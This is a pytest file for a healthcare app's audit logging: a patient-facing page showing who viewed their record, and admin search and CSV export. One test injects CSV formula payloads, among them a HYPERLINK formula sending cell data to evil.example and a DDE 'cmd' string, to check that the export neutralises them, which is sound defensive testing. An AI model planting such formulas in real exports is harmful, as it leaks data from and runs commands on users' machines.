"""Who viewed my record (patients), audit search and export (admins)."""

from __future__ import annotations

import csv
import io

from app.audit.event import AuditEvent
from app.audit.service import record
from app.extensions import db


def test_patient_sees_who_else_touched_the_record(client, make_patient, make_clinician, browser_login):
    patient = make_patient()
    clinician = make_clinician("MD", name="Dr. Rivera")
    record("care_plan.read", actor=clinician, patient_id=patient.id, object_type="care_plan", object_id=1)
    record("care_plan.read", actor=clinician, patient_id=make_patient().id)  # someone else's record
    db.session.commit()
    browser_login(patient)
    html = client.get("/my/record-access").get_data(as_text=True)
    assert "Dr. Rivera" in html and "Viewed your care plan" in html
    assert html.count("Viewed your care plan") == 1
    assert "Created your account" not in html  # the patient's own actions are not "someone else"


def test_only_patients_have_an_access_log_page(client, make_staff, browser_login):
    browser_login(make_staff("admin"))
    assert client.get("/my/record-access").status_code == 403


def test_admin_searches_and_exports_a_patients_trail(client, make_patient, make_clinician, make_staff, browser_login):
    patient, other = make_patient(), make_patient()
    clinician = make_clinician()
    for action in ("care_plan.read", "note.create"):
        record(action, actor=clinician, patient_id=patient.id)
    record("care_plan.read", actor=clinician, patient_id=other.id)
    db.session.commit()
    browser_login(make_staff("admin"))
    page = client.get(f"/admin/audit?patient={patient.email}&action=care_plan").get_data(as_text=True)
    assert page.count("care_plan.read") == 1 and "note.create" not in page
    export = client.get(f"/admin/audit/export.csv?patient={patient.id}")
    assert export.status_code == 200 and export.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(export.get_data(as_text=True))))
    assert {r["action"] for r in rows} >= {"care_plan.read", "note.create", "account.create"}
    assert all(r["patient_id"] == str(patient.id) for r in rows)
    searches = db.session.scalars(db.select(AuditEvent).where(AuditEvent.action.in_(["audit.search", "audit.export"])))
    assert len(list(searches)) == 2  # reading the trail is itself audited


def test_bad_filters_are_explained_not_500(client, make_staff, browser_login):
    browser_login(make_staff("admin"))
    page = client.get("/admin/audit?since=2027-02-30&actor=abc&patient=nobody@example.com")
    html = page.get_data(as_text=True)
    assert page.status_code == 200 and "Use a date like" in html and "numeric account id" in html
    assert client.get("/admin/audit/export.csv?since=nope").status_code == 422


def test_non_admins_cannot_search(client, make_clinician, browser_login):
    browser_login(make_clinician())
    assert client.get("/admin/audit").status_code == 403
    assert client.get("/admin/audit/export.csv").status_code == 403


def test_audit_export_neutralises_formulas(client, make_patient, make_staff, browser_login):
    patient = make_patient()
    payloads = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1"]
    for payload in payloads:
        record("care_plan.read", actor=None, patient_id=patient.id, object_type="thing", object_id=payload)
    db.session.commit()
    browser_login(make_staff("admin"))
    export = client.get(f"/admin/audit/export.csv?patient={patient.id}")
    assert export.status_code == 200
    cells = {r["object_id"] for r in csv.DictReader(io.StringIO(export.get_data(as_text=True)))}
    assert {"'" + p for p in payloads} <= cells
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)


def test_who_viewed_my_record_names_people_roles_and_things_in_plain_words(
    client, make_patient, make_clinician, browser_login
):
    """Issue 17: the person's name and role ("Psychiatrist (MD)"), what they viewed said to the patient
    ("Viewed your check-in results"), the time in the patient's zone."""
    from datetime import UTC, datetime

    patient = make_patient(timezone="America/Los_Angeles")
    doctor = make_clinician("MD", name="Dr. Rivera")
    therapist = make_clinician("LCSW", name="Sam Okafor")
    event = record("assessment.read", actor=doctor, patient_id=patient.id)
    event.occurred_at = datetime(2026, 3, 1, 20, 5, tzinfo=UTC)  # 12:05 PM in Los Angeles
    record("visit_note.read", actor=therapist, patient_id=patient.id)
    db.session.commit()
    browser_login(patient)
    html = client.get("/my/record-access").get_data(as_text=True)
    row = html.split("Dr. Rivera")[1].split("</tr>")[0]
    assert "Psychiatrist (MD)" in row and "Viewed your check-in results" in row
    assert "Sun Mar 1, 2026 at 12:05 PM PST" in html.split("Dr. Rivera")[0].rsplit("<tr>", 1)[1]
    assert "Sam Okafor" in html and "Licensed clinical social worker (LCSW)" in html and "Read your visit notes" in html
    for raw in ("assessment.read", "assessment: read", "clinician)", "UTC"):
        assert raw not in html


def test_admin_audit_names_people_next_to_ids_in_the_admins_zone(
    client, make_patient, make_clinician, make_staff, browser_login
):
    from datetime import UTC, datetime

    patient = make_patient(name="Pat Example")
    doctor = make_clinician("MD", name="Dr. Rivera")
    event = record("care_plan.read", actor=doctor, patient_id=patient.id)
    event.occurred_at = datetime(2026, 7, 4, 16, 30, tzinfo=UTC)
    db.session.commit()
    admin = make_staff("admin")
    admin.timezone = "America/Chicago"
    db.session.commit()
    browser_login(admin)
    html = client.get(f"/admin/audit?patient={patient.id}&action=care_plan").get_data(as_text=True)
    row = html.split("care_plan.read")[0].rsplit("<tr>", 1)[1]
    assert f'Dr. Rivera <span class="hint">(#{doctor.id}, clinician)' in row
    assert f'Pat Example <span class="hint">(#{patient.id})' in row
    assert "2026-07-04 11:30:00 AM CDT" in row and "When (America/Chicago)" in html
